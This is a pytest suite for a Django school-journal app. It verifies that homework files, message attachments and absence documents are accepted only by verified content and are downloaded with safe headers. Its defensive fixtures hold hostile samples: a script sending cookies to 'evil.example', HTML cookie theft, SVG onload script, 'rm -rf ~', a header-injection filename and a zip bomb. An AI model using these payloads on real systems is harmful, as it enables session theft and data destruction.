"""Every upload is checked by its content and served with the verified type (issue 9, ``classbook.core.uploads``).

Each door (the page form and the API route of homework files, message attachments and absence documents)
gets every kind Classbook knows, a zoo of hostile files, a good file under a wrong name, an empty file and a
file over the cap. A refusal names what is allowed and leaves nothing behind: no row, no file in MEDIA_ROOT.
Each accepted kind is downloaded through the page and the API, and its headers are asserted.
"""

from __future__ import annotations

import datetime as dt
import importlib
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from django.apps import apps
from django.contrib.messages import get_messages
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, models
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from PIL import Image

from classbook.appeals.models import AbsenceReport
from classbook.core import uploads
from classbook.core.uploads import KINDS, POLICIES, ContentRefused, content_disposition, identify
from classbook.journal.models import HomeworkAttachment, JournalChange
from classbook.messaging.models import Message, MessageAttachment
from tests.conftest import client_for
from tests.journal.conftest import Journal, journal  # noqa: F401 - the fixture is used by the tests here

# --- Samples: one real file of every kind ---------------------------------------------------------


def _image(fmt: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (3, 2), "navy").save(out, fmt)
    return out.getvalue()


def _zip(members: list[tuple[str, str | bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def _ooxml(main: str, part: str) -> bytes:
    types = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{main}"/></Types>'
    )
    return _zip([("[Content_Types].xml", types), ("_rels/.rels", "<Relationships/>"), (part, "<doc/>")])


def _odf(kind: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), f"application/vnd.oasis.opendocument.{kind}")
        archive.writestr("content.xml", "<office:document-content/>", zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", "<manifest:manifest/>", zipfile.ZIP_DEFLATED)
    return out.getvalue()


_OOXML = "application/vnd.openxmlformats-officedocument."
PDF = b"%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"


@cache
def sample(code: str) -> bytes:
    """A small but genuine file of the kind ``code`` (as ``KINDS``)."""
    builders: dict[str, Callable[[], bytes]] = {
        "pdf": lambda: PDF,
        "png": lambda: _image("PNG"),
        "jpeg": lambda: _image("JPEG"),
        "gif": lambda: _image("GIF"),
        "webp": lambda: _image("WEBP"),
        "docx": lambda: _ooxml(_OOXML + "wordprocessingml.document.main+xml", "word/document.xml"),
        "xlsx": lambda: _ooxml(_OOXML + "spreadsheetml.sheet.main+xml", "xl/workbook.xml"),
        "pptx": lambda: _ooxml(_OOXML + "presentationml.presentation.main+xml", "ppt/presentation.xml"),
        "odt": lambda: _odf("text"),
        "ods": lambda: _odf("spreadsheet"),
        "odp": lambda: _odf("presentation"),
        "text": lambda: "Домашнє завдання: вправа 5, с. 42.\r\nПовторити правило.\n".encode(),
        "mp3": lambda: b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x64" + b"\x00" * 400,
        "m4a": lambda: b"\x00\x00\x00\x18ftypM4A \x00\x00\x02\x00isomM4A " + b"\x00" * 64,
        "mp4": lambda: b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + b"\x00" * 64,
    }
    return builders[code]()


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run"
HTML = b"<!DOCTYPE html><html><body><script>fetch('/x?c='+document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="5"/></svg>'
JS = b"fetch('https://evil.example/?c=' + document.cookie);\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504

# (name, content): none of these may be stored through any door.
HOSTILE = {
    "html": ("page.html", HTML),
    "renamed html": ("homework.pdf", HTML),
    "html as text": ("notes.txt", b"Hello\n<html><body>hi</body></html>"),
    "svg": ("picture.svg", SVG),
    "renamed svg": ("picture.png", SVG),
    "js": ("script.js", JS),
    "renamed js": ("task.txt", JS),
    "js as pdf": ("task.pdf", JS),
    "exe": ("setup.exe", EXE),
    "renamed exe": ("setup.pdf", EXE),
    "exe as docx": ("setup.docx", EXE),
    "pdf polyglot named html": ("invoice.html", PDF + HTML),
    "png with script": ("photo.png", _image("PNG") + b"<script>alert(1)</script>"),
    "jpeg with html": ("photo.jpg", _image("JPEG")[:20] + b"<html><body onload=alert(1)>" + _image("JPEG")[20:]),
    "pdf with javascript": ("form.pdf", PDF.replace(b"/Type /Catalog", b"/OpenAction <</S /JavaScript /JS (x)>>")),
    "unknown office type": ("odd.docx", _ooxml(_OOXML.replace("officedocument.", "") + "x", "word/document.xml")),
    "docm": (
        "macro.docx",
        _ooxml("application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml"),
    ),
    "vba project": ("book.xlsx", _zip([("[Content_Types].xml", "x"), ("xl/vbaProject.bin", b"\x00")])),
    "zip": ("archive.docx", _zip([("index.html", HTML)])),
    "zip behind html": ("page.docx", HTML + _zip([("[Content_Types].xml", "x")])),
    "xml": ("data.txt", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
    "shell script": ("run.txt", b"#!/bin/sh\nrm -rf ~\n"),
    "legacy ole": ("old.doc", OLE),
    "utf-16 text": ("notes.txt", "Привіт".encode("utf-16")),
}


# --- The content check alone ------------------------------------------------------------------------


@pytest.mark.parametrize("code", sorted(KINDS))
def test_every_kind_is_recognised_by_its_content(code):
    assert identify(io.BytesIO(sample(code))).code == code


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_content_is_not_a_kind(case):
    with pytest.raises(ContentRefused):
        identify(io.BytesIO(HOSTILE[case][1]))


def test_a_cp1251_text_is_refused_with_a_hint_to_save_it_as_utf8():
    with pytest.raises(ContentRefused) as refused:
        identify(io.BytesIO("Домашнє завдання".encode("cp1251")))
    assert refused.value.reason == "encoding"


def test_a_zip_bomb_is_refused_without_being_unpacked():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b" " * (200 * 1024 * 1024))  # 200 MB of spaces, ~200 KB packed
    with pytest.raises(ContentRefused):
        identify(out)


@pytest.mark.parametrize(
    ("name", "inline", "expected"),
    [
        ("task.pdf", True, 'inline; filename="task.pdf"'),
        ("завдання 5.docx", False, "attachment; filename=\"file.docx\"; filename*=UTF-8''"),
        ('a"b;c.txt', False, "attachment; filename=\"a_b_c.txt\"; filename*=UTF-8''a%22b%3Bc.txt"),
        ("résumé.pdf", False, "attachment; filename=\"resume.pdf\"; filename*=UTF-8''r%C3%A9sum%C3%A9.pdf"),
        ("photo\u202egpj.exe", True, 'inline; filename="photogpj.exe"'),  # direction marks dropped
        ("line\r\nSet-Cookie: x.png", True, 'inline; filename="lineSet-Cookie_ x.png"; filename*='),
    ],
)
def test_download_names_follow_rfc_6266(name, inline, expected):
    header = content_disposition(name, inline=inline)
    assert header.startswith(expected)
    assert "\r" not in header and "\n" not in header


# --- The doors --------------------------------------------------------------------------------------


@dataclass
class Outcome:
    accepted: bool
    error: str  # the message the person reads
    code: str  # the API's error code ("" on a page)


@dataclass
class Door:
    name: str
    policy: uploads.UploadPolicy
    send: Callable[[Any, Journal, str, bytes, str], Outcome]
    stored: Callable[[], list[tuple[Any, str, str, Any]]]  # (row, name, verified type, stored file)
    downloads: Callable[[Any, int], list[tuple[Any, str, str]]]  # (client, url, door)


def _upload(name: str, content: bytes, content_type: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def _api_outcome(response: Any, created: int = 201) -> Outcome:
    if response.status_code == created:
        return Outcome(True, "", "")
    assert response.status_code == 422, response.content
    error = response.json()["error"]
    return Outcome(False, error["message"], error["code"])


def _homework_page(world, lessons, name, content, content_type):
    url = f"/s/{world.school.slug}/journal/{lessons.assignment.pk}/lessons/{lessons.lesson.pk}/files/upload/"
    response = client_for(world.teacher).post(url, {"file": _upload(name, content, content_type)})
    assert response.status_code == 302
    errors = [str(m) for m in get_messages(response.wsgi_request) if m.level_tag == "error"]
    return Outcome(not errors, " ".join(errors), "")


def _homework_api(world, lessons, name, content, content_type):
    url = f"/api/v1/schools/{world.school.slug}/journal/lessons/{lessons.lesson.pk}/files"
    response = client_for(world.teacher).post(url, {"file": _upload(name, content, content_type)})
    return _api_outcome(response)


def _homework_stored():
    return [(a, a.original_name, a.mime_type, a.file) for a in HomeworkAttachment.objects.all()]


def _homework_downloads(world, pk):
    student = client_for(world.student.user)
    return [
        (student, f"/s/{world.school.slug}/journal/files/{pk}/", "page"),
        (student, f"/api/v1/schools/{world.school.slug}/journal/files/{pk}", "api"),
    ]


def _message_page(world, lessons, name, content, content_type):
    response = client_for(world.parent).post(
        f"/s/{world.school.slug}/messages/new/",
        {
            "student": world.student.pk,
            "recipients": [world.teacher.pk],
            "body": "Добрий день",
            "files": [_upload(name, content, content_type)],
        },
    )
    if response.status_code == 302:
        return Outcome(True, "", "")
    assert response.status_code == 200
    return Outcome(False, " ".join(response.context["form"].errors.get("files", [])), "")


def _message_api(world, lessons, name, content, content_type):
    response = client_for(world.parent).post(
        f"/api/v1/schools/{world.school.slug}/messages/conversations",
        {
            "recipient_ids": [world.teacher.pk],
            "student_id": world.student.pk,
            "body": "Добрий день",
            "files": [_upload(name, content, content_type)],
        },
    )
    return _api_outcome(response)


def _message_stored():
    return [(a, a.original_name, a.mime_type, a.file) for a in MessageAttachment.objects.all()]


def _message_downloads(world, pk):
    teacher = client_for(world.teacher)
    return [
        (teacher, f"/s/{world.school.slug}/messages/files/{pk}/", "page"),
        (teacher, f"/api/v1/schools/{world.school.slug}/messages/files/{pk}", "api"),
    ]


def _report_fields(world):
    today = timezone.localdate().isoformat()
    return {"student": world.student.pk, "start": today, "end": today, "kind": "illness", "text": "Хворів"}


def _report_page(world, lessons, name, content, content_type):
    data = {**_report_fields(world), "document": _upload(name, content, content_type)}
    response = client_for(world.parent).post(f"/s/{world.school.slug}/appeals/reports/new/", data)
    if response.status_code == 302:
        return Outcome(True, "", "")
    assert response.status_code == 200
    return Outcome(False, " ".join(response.context["form"].errors.get("document", [])), "")


def _report_api(world, lessons, name, content, content_type):
    data = {**_report_fields(world), "document": _upload(name, content, content_type)}
    response = client_for(world.parent).post(f"/api/v1/schools/{world.school.slug}/appeals/absence-reports", data)
    return _api_outcome(response)


def _report_stored():
    return [(r, r.document_name, r.document_type, r.document) for r in AbsenceReport.objects.all()]


def _report_downloads(world, pk):
    class_teacher = client_for(world.class_teacher)
    return [
        (class_teacher, f"/s/{world.school.slug}/appeals/reports/{pk}/document/", "page"),
        (class_teacher, f"/api/v1/schools/{world.school.slug}/appeals/absence-reports/{pk}/document", "api"),
    ]


HOMEWORK, MESSAGE, DOCUMENT = POLICIES["homework"], POLICIES["message"], POLICIES["absence_document"]
DOORS = {
    "homework page": Door("homework page", HOMEWORK, _homework_page, _homework_stored, _homework_downloads),
    "homework api": Door("homework api", HOMEWORK, _homework_api, _homework_stored, _homework_downloads),
    "message page": Door("message page", MESSAGE, _message_page, _message_stored, _message_downloads),
    "message api": Door("message api", MESSAGE, _message_api, _message_stored, _message_downloads),
    "absence page": Door("absence page", DOCUMENT, _report_page, _report_stored, _report_downloads),
    "absence api": Door("absence api", DOCUMENT, _report_api, _report_stored, _report_downloads),
}
NAMES = {code: f"Завдання{KINDS[code].extensions[-1]}" for code in KINDS}


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def _files_in(media) -> list[Any]:
    return [p for p in media.rglob("*") if p.is_file()] if media.exists() else []


def _assert_refused(door: Door, outcome: Outcome, media, *, code_end: str, names_allowed: bool = True) -> None:
    assert not outcome.accepted
    assert outcome.error
    if names_allowed:
        assert door.policy.labels in outcome.error, outcome.error
    if outcome.code:
        assert outcome.code == f"invalid_{door.policy.noun}_{code_end}"
    assert door.stored() == []
    assert not Message.objects.exists() and not AbsenceReport.objects.exists()
    assert not JournalChange.objects.filter(kind="homework").exists()
    assert _files_in(media) == []


@pytest.mark.parametrize("code", sorted(KINDS))
@pytest.mark.parametrize("door_name", sorted(DOORS))
def test_each_kind_is_accepted_exactly_where_its_policy_allows(world, journal, media, door_name, code):  # noqa: F811
    door = DOORS[door_name]
    # The browser's content type is a lie both ways: it is never read.
    outcome = door.send(world, journal, NAMES[code], sample(code), "text/html")
    if code not in door.policy.kinds:
        _assert_refused(door, outcome, media, code_end="type")
        return
    assert outcome.accepted, outcome.error
    [(_row, name, mime, stored)] = door.stored()
    assert (name, mime) == (NAMES[code], KINDS[code].mime)
    with stored.open("rb") as on_disk:
        assert on_disk.read() == sample(code) and NAMES[code] not in stored.name  # a random name on disk


@pytest.mark.parametrize("case", sorted(HOSTILE))
@pytest.mark.parametrize("door_name", sorted(DOORS))
def test_hostile_files_are_refused_and_nothing_is_kept(world, journal, media, door_name, case):  # noqa: F811
    door = DOORS[door_name]
    name, content = HOSTILE[case]
    outcome = door.send(world, journal, name, content, "application/pdf")
    _assert_refused(door, outcome, media, code_end="type", names_allowed=False)


@pytest.mark.parametrize("door_name", sorted(DOORS))
def test_a_good_file_under_another_kinds_name_is_refused_with_the_right_name(world, journal, media, door_name):  # noqa: F811
    door = DOORS[door_name]
    outcome = door.send(world, journal, "scan.pdf", sample("png"), "application/pdf")
    _assert_refused(door, outcome, media, code_end="type", names_allowed=False)
    assert "scan.png" in outcome.error  # tells how to rename it


@pytest.mark.parametrize("door_name", sorted(DOORS))
def test_a_good_file_without_an_extension_gets_the_kinds_one(world, journal, media, door_name):  # noqa: F811
    door = DOORS[door_name]
    assert door.send(world, journal, "Скан довідки", sample("png"), "").accepted
    [(_row, name, mime, _stored)] = door.stored()
    assert (name, mime) == ("Скан довідки.png", "image/png")


@pytest.mark.parametrize("door_name", sorted(DOORS))
def test_an_upper_case_extension_of_the_right_kind_is_fine(world, journal, door_name):  # noqa: F811
    assert DOORS[door_name].send(world, journal, "SCAN.PDF", PDF, "application/octet-stream").accepted


@pytest.mark.parametrize("door_name", sorted(DOORS))
def test_an_empty_file_is_refused(world, journal, media, door_name):  # noqa: F811
    door = DOORS[door_name]
    outcome = door.send(world, journal, "empty.pdf", b"", "application/pdf")
    _assert_refused(door, outcome, media, code_end="size", names_allowed=False)
    assert "empty" in outcome.error


@pytest.mark.parametrize("door_name", sorted(DOORS))
def test_a_file_over_the_cap_is_refused(world, journal, media, door_name):  # noqa: F811
    door = DOORS[door_name]
    content = PDF + b" " * (door.policy.max_size + 1 - len(PDF))
    outcome = door.send(world, journal, "big.pdf", content, "application/pdf")
    _assert_refused(door, outcome, media, code_end="size", names_allowed=False)
    assert f"{door.policy.max_size // (1024 * 1024)} MB" in outcome.error
    # Exactly at the cap is fine.
    assert door.send(world, journal, "big.pdf", content[:-1], "application/pdf").accepted


# --- Downloads ----------------------------------------------------------------------------------


def _body(response) -> bytes:
    return b"".join(response.streaming_content)


ACCEPTED = [
    (kind_name, code)
    for kind_name, policy in (("homework", HOMEWORK), ("message", MESSAGE), ("absence", DOCUMENT))
    for code in policy.kinds
]


@pytest.mark.parametrize(("kind_name", "code"), ACCEPTED)
def test_downloads_carry_the_verified_type_and_safe_headers(world, journal, kind_name, code):  # noqa: F811
    door = DOORS[f"{kind_name} api"]
    assert door.send(world, journal, NAMES[code], sample(code), "text/html").accepted
    [(row, *_)] = door.stored()
    kind = KINDS[code]
    for client, url, via in door.downloads(world, row.pk):
        response = client.get(url)
        assert response.status_code == 200, (via, url)
        assert response["Content-Type"] == kind.content_type
        disposition = "inline" if kind.inline else "attachment"
        ext = kind.extensions[-1]
        quoted = "%D0%97%D0%B0%D0%B2%D0%B4%D0%B0%D0%BD%D0%BD%D1%8F"  # "Завдання"
        assert (
            response["Content-Disposition"] == f"{disposition}; filename=\"file{ext}\"; filename*=UTF-8''{quoted}{ext}"
        )
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
        assert response["Cross-Origin-Resource-Policy"] == "same-origin"
        assert "private" in response["Cache-Control"]
        assert _body(response) == sample(code)


@pytest.mark.parametrize("kind_name", ["homework", "message", "absence"])
def test_a_stored_file_of_no_known_kind_is_downloaded_as_bytes(world, journal, kind_name):  # noqa: F811
    door = DOORS[f"{kind_name} api"]
    assert door.send(world, journal, "a.pdf", PDF, "").accepted
    [(row, *_)] = door.stored()
    type(row).objects.filter(pk=row.pk).update(**{_type_field(row): uploads.OCTET_STREAM})
    for client, url, _via in door.downloads(world, row.pk):
        response = client.get(url)
        assert response["Content-Type"] == "application/octet-stream"
        assert response["Content-Disposition"].startswith("attachment;")
        assert response["X-Content-Type-Options"] == "nosniff"
        assert _body(response) == PDF


@pytest.mark.parametrize("kind_name", ["homework", "message", "absence"])
def test_a_row_whose_file_is_gone_answers_404_not_500(world, journal, media, kind_name):  # noqa: F811
    door = DOORS[f"{kind_name} api"]
    assert door.send(world, journal, "a.pdf", PDF, "").accepted
    for path in _files_in(media):
        path.unlink()
    [(row, *_)] = door.stored()
    for client, url, via in door.downloads(world, row.pk):
        response = client.get(url)
        assert response.status_code == 404, via
        if via == "api":
            assert response.json()["error"]["code"] == "not_found"


def _type_field(row) -> str:
    return "document_type" if isinstance(row, AbsenceReport) else "mime_type"


# Outsiders: another school, another family, another class. The page answers 404 (anonymous: to the login),
# the API 404 (anonymous: 401).
OUTSIDERS = {
    "homework": ["other_student", "other_parent", "other_teacher", "foreign_admin", "foreign_student"],
    "message": ["other_parent", "other_teacher", "student", "foreign_admin", "foreign_teacher"],
    "absence": ["other_parent", "other_teacher", "teacher", "other_student", "foreign_admin", "foreign_teacher"],
}


@pytest.mark.parametrize("kind_name", ["homework", "message", "absence"])
def test_outsiders_cannot_download_through_any_door(world, journal, kind_name):  # noqa: F811
    door = DOORS[f"{kind_name} api"]
    assert door.send(world, journal, "a.pdf", PDF, "").accepted
    [(row, *_)] = door.stored()
    for persona in [*OUTSIDERS[kind_name], "anonymous"]:
        client = client_for(world.persona(persona))
        for _c, url, via in door.downloads(world, row.pk):
            response = client.get(url)
            expected = {"page": 302, "api": 401} if persona == "anonymous" else {"page": 404, "api": 404}
            assert response.status_code == expected[via], (persona, via)
            assert not getattr(response, "streaming", False)


def test_homework_files_api_lists_attaches_and_removes(world, journal, django_assert_max_num_queries):  # noqa: F811
    base = f"/api/v1/schools/{world.school.slug}/journal"
    teacher = client_for(world.teacher)
    for i in range(2):
        assert _homework_api(world, journal, f"{i}.pdf", PDF, "").accepted
    url = f"{base}/lessons/{journal.lesson.pk}/files"
    teacher.get(url)  # the session and the school context are read once
    with CaptureQueriesContext(connection) as two:
        listed = teacher.get(url).json()["items"]
    budget = len(two.captured_queries)  # read now: the next request empties the query log
    assert [(f["name"], f["mime_type"]) for f in listed] == [("0.pdf", "application/pdf"), ("1.pdf", "application/pdf")]
    for i in range(2, 6):
        assert _homework_api(world, journal, f"{i}.pdf", PDF, "").accepted
    with django_assert_max_num_queries(budget):
        assert len(teacher.get(url).json()["items"]) == 6
    assert budget <= 6
    first = listed[0]["id"]
    # Only the lesson's teacher removes; the file is hidden, kept and the removal recorded.
    assert client_for(world.class_teacher).delete(f"{base}/files/{first}").status_code in (403, 404)
    assert teacher.delete(f"{base}/files/{first}").status_code == 204
    assert client_for(world.student.user).get(f"{base}/files/{first}").status_code == 404
    assert HomeworkAttachment.objects.get(pk=first).removed_at is not None
    assert JournalChange.objects.filter(kind="homework", old_value="0.pdf", new_value="").exists()
    # Another school's teacher cannot attach to this school's lesson.
    outsider = client_for(world.foreign_teacher).post(
        f"{base}/lessons/{journal.lesson.pk}/files", {"file": _upload("x.pdf", PDF, "")}
    )
    assert outsider.status_code == 404 and HomeworkAttachment.objects.count() == 6


@pytest.mark.parametrize("persona", ["class_teacher", "other_teacher", "deputy", "student", "parent", "viewer"])
def test_only_the_lessons_teacher_attaches_through_the_api(world, journal, media, persona):  # noqa: F811
    url = f"/api/v1/schools/{world.school.slug}/journal/lessons/{journal.lesson.pk}/files"
    response = client_for(world.persona(persona)).post(url, {"file": _upload("a.pdf", PDF, "")})
    assert response.status_code in (403, 404)
    assert not HomeworkAttachment.objects.exists() and _files_in(media) == []


# --- Existing rows: the verified type is derived from the stored bytes -----------------------------


def _migration(app: str, name: str) -> Any:
    return importlib.import_module(f"classbook.{app}.migrations.{name}")


def test_data_migrations_derive_the_type_from_the_stored_bytes(world, journal, media):  # noqa: F811
    lesson = journal.lesson
    rows = []
    for content, claimed in [(PDF, "text/html"), (HTML, "image/png"), (sample("docx"), ""), (None, "image/png")]:
        attachment = HomeworkAttachment(
            school=world.school, lesson=lesson, original_name="a", size=1, mime_type=claimed, uploaded_by=world.teacher
        )
        attachment.file.save("a", ContentFile(content or b"gone"), save=False)
        attachment.save()
        if content is None:
            attachment.file.storage.delete(attachment.file.name)
        rows.append(attachment)
    _migration("journal", "0006_homework_files_verified_type").derive_types(apps, None)
    assert [HomeworkAttachment.objects.get(pk=r.pk).mime_type for r in rows] == [
        "application/pdf",
        "application/octet-stream",
        KINDS["docx"].mime,
        "application/octet-stream",
    ]


def test_data_migrations_of_messages_and_reports(world, media):
    from classbook.messaging import services
    from tests.messaging.conftest import ctx_of

    conv = services.start_conversation(
        ctx_of(world.parent, world.school), recipient_ids=[world.teacher.pk], body="x", student=world.student
    )
    message = conv.last_message
    attachment = MessageAttachment(school=world.school, message=message, original_name="a", size=1, mime_type="x")
    attachment.file.save("a", ContentFile(_image("PNG")), save=False)
    attachment.save()
    today = timezone.localdate()
    report = AbsenceReport(
        school=world.school,
        student=world.student,
        reported_by=world.parent,
        start=today,
        end=today,
        kind="illness",
        text="x",
    )
    report.document.save("a", ContentFile(HTML), save=False)
    report.document_type = "application/pdf"
    report.save()
    no_document = AbsenceReport.objects.create(
        school=world.school,
        student=world.student,
        reported_by=world.parent,
        start=today - dt.timedelta(days=1),
        end=today - dt.timedelta(days=1),
        kind="illness",
        text="x",
    )
    _migration("messaging", "0002_message_files_verified_type").derive_types(apps, None)
    _migration("appeals", "0002_absence_documents_verified_type").derive_types(apps, None)
    assert MessageAttachment.objects.get().mime_type == "image/png"
    assert AbsenceReport.objects.get(pk=report.pk).document_type == "application/octet-stream"
    assert AbsenceReport.objects.get(pk=no_document.pk).document_type == ""


# --- Future doors ---------------------------------------------------------------------------------


def test_every_download_goes_through_the_one_helper():
    """A new download door that builds its own FileResponse would skip the verified type and the headers."""
    root = Path(uploads.__file__).parents[1]
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "FileResponse(" in path.read_text(encoding="utf-8") and path != Path(uploads.__file__)
    ]
    assert offenders == []


def test_every_stored_upload_keeps_its_verified_type():
    """A new model with a file needs the verified type next to it (``mime_type``, or ``<field>_type``)."""
    for model in apps.get_models():
        for field in model._meta.get_fields():
            if isinstance(field, models.FileField):
                type_field = "mime_type" if field.name == "file" else f"{field.name}_type"
                assert type_field in {f.name for f in model._meta.get_fields()}, model
